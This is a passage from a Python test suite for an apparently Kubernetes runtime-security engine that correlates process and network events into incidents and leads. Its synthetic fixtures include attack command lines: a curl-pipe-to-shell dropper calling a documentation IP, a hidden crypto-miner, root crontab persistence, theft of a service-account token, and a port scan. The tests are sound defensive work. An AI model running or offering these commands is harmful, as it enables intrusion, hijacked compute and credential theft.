    miner, b = _run(22, _ref(sh), "/dev/shm/.kswapd", "-o pool.example:4444", "2026-03-01T10:00:41Z", init=True)
    cron_sh, c = _run(30, server, "/bin/sh", "-c '(crontab -l; echo x) | crontab -'", "2026-03-01T10:01:20Z", init=True)
    crontab, d = _run(31, _ref(cron_sh), "/usr/bin/crontab", "-", "2026-03-01T10:01:20.1Z", init=True)
    wrote = json.dumps({"process_kprobe": {"process": crontab, "parent": _ref(cron_sh), "function_name": "security_file_open",
                                           "args": [{"file_arg": {"path": "/var/spool/cron/crontabs/root"}}]},
                        "node_name": NODE, "time": "2026-03-01T10:01:20.2Z"})
    f = _findings(tmp_path, [a, b, c, d, wrote, _connect(miner, _ref(sh), 41000, "203.0.113.50", 4444, "2026-03-01T10:00:42Z"),
                             _alert_on(22, "Drop and execute new binary in container", "Critical", "2026-03-01T10:00:41.1Z")])
    assert f.incidents[0].entry is not None and f.incidents[0].entry.exec_id == _id(21)
    assert {_id(30), _id(31)} & (_incident_ids(f) | _lead_ids(f))


def test_without_flows_a_retried_command_is_its_first_run(tmp_path):
    """Without flows the PUT is three connections to a pod address: no state-changing request is
    seen, so no act — a lead on the exec'd shell (the old cascade made the first curl its key
    command). The lead names the pod and the shell."""
    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    runs = [_run(51 + i, _ref(sh), "/usr/bin/curl", "-X PUT http://db/x", f"2026-03-01T10:0{i}:01Z") for i in range(3)]
    connects = [_connect(p, _ref(sh), 41001 + i, "10.0.5.5", 80, f"2026-03-01T10:0{i}:01.1Z") for i, (p, _) in enumerate(runs)]
    f = _findings(tmp_path, [a, *(line for _, line in runs), *connects])
    keys = [i.key_command.exec_id for i in f.incidents if i.key_command]
    assert keys == [_id(51)] or (not keys and f.leads[0].pod == POD and _id(50) in f.leads[0].exec_ids)


def test_without_processes_a_rare_request_seen_on_two_nodes_points_at_its_pod(tmp_path):
    """Hubble only: three PUTs among many GETs name the pod, as a lead (no process, no incident)."""
    gets = [_sighting(42000 + i, "10.0.5.5", 80, "FORWARDED", f"2026-03-01T09:{i:02d}:00Z", dst_pod="db-0",
                      method="GET") for i in range(40)]
    puts = [x for i in range(3) for x in _put_sightings(41001 + i, f"2026-03-01T10:0{i}:01.101Z")]
    f = _findings(tmp_path, gets + puts)
    assert f.incidents == []
    assert [x.pod for x in f.leads][:1] == [POD]


def test_a_backdoor_every_new_replica_runs_once_is_a_lead_in_both_new_pods(tmp_path):
    """The old cascade accused one of the new pods with the dropper as key command. The new engine
    learns "what runs in every replica of the new version" as routine, so the same dropper once in
    each new pod is a lead (a poisoned rollout and a new version's addition look alike) — the honest
    answer; the two new pods are its leads, the old ones are not."""
    lines = []
    for i, (pod, cid, backdoored) in enumerate((("shop-api-6f7d8c9b5-bbbbb", "b", False), ("shop-api-6f7d8c9b5-ccccc", "c", False),
                                                ("shop-api-7d8c9b5f6-ddddd", "d", True), ("shop-api-7d8c9b5f6-fffff", "f", True))):
        base = 100 * (i + 1)
        server, a = _run(base, SHIM, "/usr/local/bin/node", "/app/server.js", f"2026-03-01T0{8 + i}:00:00Z", init=True)
        lines.append(_in_pod(a, pod, cid))
        if backdoored:
            sh, b = _run(base + 1, _ref(server), "/bin/sh", "-c 'curl -s http://203.0.113.77/x.sh | sh'",
                         f"2026-03-01T0{8 + i}:00:10Z", init=True)
            _, c = _run(base + 2, _ref(sh), "/dev/shm/.cache/kthreadd", "", f"2026-03-01T0{8 + i}:00:12Z", init=True)
            lines += [_in_pod(b, pod, cid), _in_pod(c, pod, cid),
                      _critical(base + 2, "Drop and execute new binary in container", f"2026-03-01T0{8 + i}:00:12.1Z", cid * 12)]
    f = _findings(tmp_path, lines)
    assert f.incidents == []
    assert {_id(302), _id(402)} <= _lead_ids(f)  # the dropper in both new pods
    assert not {_id(100), _id(200)} & _lead_ids(f)  # the old pods' servers


def test_ci_jobs_differing_only_in_ids_are_routine_and_the_intruders_exec_is_a_lead(tmp_path):
    """The old cascade named the intruder's shell as the session and the pod as "attacker pod". The
    curl to the API server has no flows (TLS, no Hubble here) and reads a token with a Warning
    alert: one kind of act, a medium detection — a lead, which names the pod and the shell."""
    agent = {"exec_id": _id(10), "pid": 10, "binary": "/usr/bin/java", "arguments": "-jar agent.jar"}
    lines: list[str] = []
    for i, (job, t) in enumerate([("75999529", "08"), ("0a3f1c2d", "09"), ("1b2c3d4e", "11")]):
        pid = 100 + 10 * i
        sh, a = _run(pid, agent, "/bin/sh", f"-xe /home/ci/ws@tmp/durable-{job}/script.sh", f"2026-03-01T{t}:00:00Z")
        git, b = _run(pid + 1, _ref(sh), "/usr/bin/git", "fetch https://github.com/acme/app.git", f"2026-03-01T{t}:00:01Z")
        remote, c = _run(pid + 2, _ref(git), "/usr/lib/git-core/git-remote-https", "origin", f"2026-03-01T{t}:00:02Z")
        go, d = _run(pid + 3, _ref(sh), "/usr/local/go/bin/go", "test ./...", f"2026-03-01T{t}:00:10Z")
        kubectl, e = _run(pid + 4, _ref(sh), "/usr/local/bin/kubectl", "set image deploy/app", f"2026-03-01T{t}:01:00Z")
        lines += [a, b, c, d, e, _connect(remote, _ref(git), 40000 + i, "140.82.112.3", 443, f"2026-03-01T{t}:00:03Z"),
                  _connect(go, _ref(sh), 41000 + i, "142.250.74.17", 443, f"2026-03-01T{t}:00:11Z"),
                  _connect(kubectl, _ref(sh), 42000 + i, "10.96.0.1", 443, f"2026-03-01T{t}:01:01Z"),
                  _alert_on(pid + 4, "Contact K8S API Server From Container", "Notice", f"2026-03-01T{t}:01:01Z")]
    bash, a = _run(300, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
    cat, b = _run(301, _ref(bash), "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token",
                  "2026-03-01T10:00:05Z")
    token = json.dumps({"process_kprobe": {"process": cat, "parent": _ref(bash), "function_name": "security_file_open",
                                           "args": [{"file_arg": {"path": "/var/run/secrets/kubernetes.io/serviceaccount/token"}}]},
                        "node_name": NODE, "time": "2026-03-01T10:00:05.1Z"})
    curl, c = _run(302, _ref(bash), "/usr/bin/curl", "-k https://10.96.0.1/api/v1/namespaces/payments/pods -d @p.json",
                   "2026-03-01T10:00:20Z")
    lines += [a, b, token, c, _alert_on(301, "Read sensitive file untrusted", "Warning", "2026-03-01T10:00:05.2Z"),
              _connect(curl, _ref(bash), 43000, "10.96.0.1", 443, "2026-03-01T10:00:21Z")]
    f = _findings(tmp_path, lines)
    assert f.incidents == []
    assert f.leads[0].pod == POD and f.leads[0].exec_ids[0] == _id(300)
    # the jobs' own steps are routine; their exec'd shells, alike, are one merged lead below it
    jobs = {_id(100 + 10 * i + k) for i in range(3) for k in range(1, 5)}
    assert not jobs & (_incident_ids(f) | _lead_ids(f))
    assert all(_id(300) not in x.exec_ids for x in f.leads[1:])


def test_a_connection_dropped_on_its_other_node_is_drawn_as_dropped_and_a_lookup_stays_unattributed(tmp_path):
    """The old cascade's test also checked the flow chart and the pod's DNS lookup (no connect hook:
    no process); those are the correlation and chart APIs', kept here."""
    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    scan, b = _run(51, _ref(sh), "/tmp/.x/pscan", "10.0.5.5", "2026-03-01T10:00:01Z")
    lines = [a, b, _connect(scan, _ref(sh), 40001, "10.0.5.5", 22, "2026-03-01T10:00:01.1Z"),
             _sighting(40001, "10.0.5.5", 22, "FORWARDED", "2026-03-01T10:00:01.101Z", dst_pod="db-0"),
             _sighting(40001, "10.0.5.5", 22, "DROPPED", "2026-03-01T10:00:01.102Z", node="worker-9", dst_pod="db-0")]
    dns = json.loads(_sighting(40003, "10.0.0.10", 53, "FORWARDED", "2026-03-01T10:00:04Z"))
    dns["flow"]["l4"] = {"UDP": {"source_port": 40003, "destination_port": 53}}
    dns["flow"] |= {"Type": "L7", "l7": {"type": "REQUEST", "dns": {"query": "db.shop.svc.cluster.local."}}}
    lines.append(json.dumps(dns))
    with _case(tmp_path, lines) as c:
        look = c.flows(dns_query="db.shop.svc.cluster.local.")
        assert look.height == 1 and look["exec_id"].to_list() == [None]
        edges = [(r["to"], r["verdict"]) for r in kn.viz.flow_chart(c).to_dict()["layer"][1]["data"]["values"]]
        assert ("shop/db", "DROPPED") in edges and ("shop/db", "FORWARDED") not in edges


def test_a_services_process_tree_is_listed_by_depth_and_start_time(tmp_path):
    """The correlation API the old cascade's hooks-only test also checked (the capture lists the
    execs out of order)."""
    server, a = _run(10, {"exec_id": _id(1), "pid": 1}, "/usr/local/bin/python3", "-m jupyter", "2026-03-01T08:00:00Z",
                     init=True)
    sh, b = _run(20, _ref(server), "/bin/sh", "-c x", "2026-03-01T10:00:00Z", init=True)
    _, c = _run(21, _ref(sh), "/tmp/.x/kworker", "", "2026-03-01T10:00:02Z", init=True)
    pip_sh, d = _run(30, _ref(server), "/bin/sh", "-c 'pip install xgboost'", "2026-03-01T09:00:00Z", init=True)
    _, e = _run(31, _ref(pip_sh), "/tmp/pip-build-env-1/bin/ninja", "-C build", "2026-03-01T09:00:05Z", init=True)
    with _case(tmp_path, [a, b, c, d, e]) as case:
        assert case.descendants(_id(10))["pid"].to_list() == [10, 30, 20, 31, 21]
